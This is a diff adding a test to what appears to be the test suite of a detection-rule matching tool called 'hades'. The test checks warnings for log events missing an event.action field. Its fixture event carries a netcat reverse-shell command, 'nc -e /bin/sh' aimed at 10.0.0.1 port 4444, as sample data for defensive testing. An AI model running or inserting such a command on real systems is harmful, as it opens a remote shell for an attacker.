@@ -121,6 +121,15 @@ describe('hades rules match', () => {
     assert.doesNotMatch(inOrder.stderr, /older than the one before/);
   });
 
+  it('says how many events had no event.action, by which rules are chosen, and where the first was', async () => {
+    const bare = { '@timestamp': '2024-03-01T10:00:00.000Z', process: { name: 'nc', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } };
+    const r = await runHades(['rules', 'match', '-'], { input: ndjson([exec('e-with', ['id'], '2024-03-01T10:00:00.000Z'), bare, bare]), timeoutMs: 60_000 });
+    assert.equal(r.status, 0, r.stderr);
+    assert.match(r.stderr, /2 event\(s\) without event\.action \(the first at stdin:2\): rules are chosen by the action/);
+    const fine = await runHades(['rules', 'match', '-'], { input: ndjson([exec('e-with', ['id'], '2024-03-01T10:00:00.000Z')]), timeoutMs: 60_000 });
+    assert.doesNotMatch(fine.stderr, /without event\.action/);
+  });
+
   it('refuses what it cannot run, coded: no events file, a file it cannot read, no rules at all', async () => {
     const missing = await runHades(['rules', 'match']);
     assert.equal(missing.status, 2);
